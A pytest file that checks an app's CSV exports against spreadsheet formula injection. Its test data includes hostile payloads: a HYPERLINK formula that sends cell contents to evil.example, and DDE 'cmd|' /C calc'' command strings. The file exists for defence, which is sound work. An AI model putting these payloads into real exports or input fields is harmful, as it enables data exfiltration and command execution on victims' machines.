"""No formula reaches a spreadsheet from Relais (#17, point 8): every CSV the app writes goes through one writer
(app.domain.imports.tables.csv_text), which quotes a cell starting with = + - @, a tab or a carriage return, as
OWASP recommends; the imports read such a cell back as the original text (export → import is unchanged)."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from app.domain.imports.tables import csv_text, neutralise, restore
from app.domain.reference_data import sync_reference_data
from app.extensions import db
from app.models import Audience, Force, Topic, Trainer
from tests.factories import make_confirmed_session, make_coordinator, make_trainer
from tests.helpers import login, post_upload

APP = Path(__file__).resolve().parents[2] / "app"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "@SUM(1+1)*cmd|' /C calc'!A0", "+33 6 12 34 56 78",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=déjà cité", "''-2", "-", "="]
HARMLESS = ["Collège Jean Moulin", "-21.1", "45", "0,5", "l'école", "'apostrophe", "a=b", ""]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def _formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a cell starting with one of OWASP's characters (and not a number)."""
    return bool(re.match(r"[=+\-@\t\r]", cell)) and not re.fullmatch(r"-?\d+(?:[.,]\d+)?", cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_quoted_and_read_back_as_written(value):
    written = neutralise(value)
    assert written.startswith("'") and not _formula(written)
    assert restore(written) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_and_numbers_are_left_alone(value):
    assert neutralise(value) == value and restore(value) == value


def test_the_writer_quotes_every_cell_that_needs_it():
    [row] = _cells(csv_text([HOSTILE + HARMLESS + [None, 12, -3]]))
    assert not any(_formula(cell) for cell in row)
    assert [restore(cell) for cell in row] == HOSTILE + HARMLESS + ["", "12", "-3"]


def test_every_csv_the_app_writes_goes_through_the_one_writer():
    writers = {}
    for path in APP.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        found = re.findall(r"csv\.(?:writer|DictWriter)\(|openpyxl|Workbook\(", source)
        if found:
            writers[str(path.relative_to(APP))] = sorted(set(found))
    # One module reads and writes tables: the one CSV writer and the one XLSX writer (tables.xlsx_file).
    assert writers == {"domain/imports/tables.py": ["Workbook(", "csv.writer(", "openpyxl"]}, writers


@pytest.fixture
def coordinator(app, clock):
    coordinator = make_coordinator("69", Force.POLICE)
    db.session.commit()
    return coordinator


def test_the_roster_export_quotes_formulas_and_its_import_gives_them_back(client, coordinator):
    first = make_trainer("69", Force.POLICE)
    first.user.full_name, first.user.phone = '=HYPERLINK("http://evil.example","Dupont")', "+33 6 12 34 56 78"
    first.languages = "@SUM(1+1)"
    first.unit.name = "-Unité de Lyon"
    second = make_trainer("69", Force.POLICE)
    second.user.full_name, second.rank = "-Martin", "=Brigadier"
    second.active, second.inactive_reason = False, "+mutation"
    for trainer in (first, second):
        trainer.topics, trainer.audiences = [db.session.get(Topic, "cannabis")], [db.session.get(Audience, "4e")]
    db.session.commit()
    login(client, coordinator)

    exported = client.get("/formateurs/export.csv?actif=tous").get_data(as_text=True)
    rows = _cells(exported)
    assert len(rows) == 3 and not any(_formula(cell) for row in rows for cell in row)
    by_matricule = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_matricule[first.matricule]["nom"] == '\'=HYPERLINK("http://evil.example","Dupont")'
    assert by_matricule[first.matricule]["unite"] == "'-Unité de Lyon"
    assert by_matricule[second.matricule]["nom"] == "'-Martin"

    before = {t.matricule: (t.user.full_name, t.user.phone, t.rank, t.languages, t.unit.name, t.inactive_reason)
              for t in db.session.scalars(select(Trainer))}
    response = post_upload(client, "/formateurs/import", "registre.csv", exported.encode("utf-8"))
    page = html.unescape(response.get_data(as_text=True))
    assert "0 créé, 0 modifié, 2 inchangés" in page, page[page.find("<main"):][:3000]
    db.session.expire_all()
    assert {t.matricule: (t.user.full_name, t.user.phone, t.rank, t.languages, t.unit.name, t.inactive_reason)
            for t in db.session.scalars(select(Trainer))} == before
    again = client.get("/formateurs/export.csv?actif=tous").get_data(as_text=True)
    assert again == exported


def test_the_schedule_export_quotes_formulas(client, app, clock):
    intervention, trainer, coordinator = make_confirmed_session()
    request = intervention.request
    request.establishment.name = '=HYPERLINK("http://evil.example","Collège")'
    request.establishment.commune_name = "@Lyon"
    request.contact_name, request.contact_phone = "-Mme Durand", "+33 4 00 00 00 00"
    trainer.user.full_name = "=Jean"
    db.session.commit()
    login(client, coordinator)
    response = client.get("/calendrier/export", query_string={"date_from": "2027-01-01", "date_to": "2027-01-31",
                                                               "statuses": ["confirmed"], "format": "csv"})
    header, row = _cells(response.get_data(as_text=True))
    assert not any(_formula(cell) for cell in row)
    values = dict(zip(header, row, strict=True))
    assert values["établissement"] == '\'=HYPERLINK("http://evil.example","Collège")'
    assert (values["commune"], values["contact"], values["téléphone"], values["formateurs"]) == (
        "'@Lyon", "'-Mme Durand", "'+33 4 00 00 00 00", "'=Jean")


@pytest.fixture
def hostile_topic_label(app):
    """A topic's label made hostile for one test (the reference tables are kept between tests: put back after)."""
    yield
    db.session.rollback()
    sync_reference_data(db.session)
    db.session.commit()


def test_the_statistics_csv_quotes_formulas(client, app, clock, hostile_topic_label, monkeypatch):
    from app.domain import reports, vocabulary

    # A topic added to the reference data after app/domain/vocabulary.py was written shows its label from the
    # database: the label an administrator typed.
    monkeypatch.delitem(vocabulary.TOPICS, "cannabis")

    intervention, trainer, coordinator = make_confirmed_session()
    clock.freeze(intervention.ends_at + timedelta(hours=1))
    reports.save_report(db.session, intervention, trainer,
                        reports.ReportData(held=True, people_present=27, topic_codes=("cannabis",)), trainer.user,
                        clock.now())
    topic = db.session.get(Topic, intervention.request.topics[0].code)
    topic.label_fr = "=1+2"
    db.session.commit()
    login(client, coordinator)
    response = client.get("/statistiques/themes.csv", query_string={"date_from": "2027-01-01",
                                                                     "date_to": "2027-01-31"})
    rows = _cells(response.get_data(as_text=True))
    assert ["'=1+2"] == [row[0] for row in rows if row[0].endswith("=1+2")]
    assert not any(_formula(cell) for row in rows for cell in row)
